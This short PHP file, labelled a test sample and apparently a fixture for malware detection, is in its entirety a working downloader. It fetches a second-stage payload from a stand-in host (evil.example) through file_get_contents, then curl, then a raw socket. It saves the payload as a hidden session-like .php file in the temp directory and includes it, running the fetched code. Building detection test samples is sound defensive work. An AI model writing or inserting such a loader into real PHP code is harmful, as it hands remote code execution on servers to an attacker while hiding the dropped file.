<?php
// Test sample: downloader that tries several transports, stores the next
// stage in a hidden file and includes it.
$u = 'http://evil.example/stage2.txt';
$f = sys_get_temp_dir() . '/.sess_' . substr(md5(__FILE__), 0, 8) . '.php';
$d = '';
if (ini_get('allow_url_fopen')) {
    $d = @file_get_contents($u);
} elseif (function_exists('curl_init')) {
    $c = curl_init($u);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, true);
    $d = curl_exec($c);
} else {
    $s = fsockopen('evil.example', 80);
    fwrite($s, "GET /stage2.txt HTTP/1.0\r\nHost: evil.example\r\n\r\n");
    $d = explode("\r\n\r\n", stream_get_contents($s), 2)[1];
}
if ($d) {
    file_put_contents($f, $d);
    include $f;
}
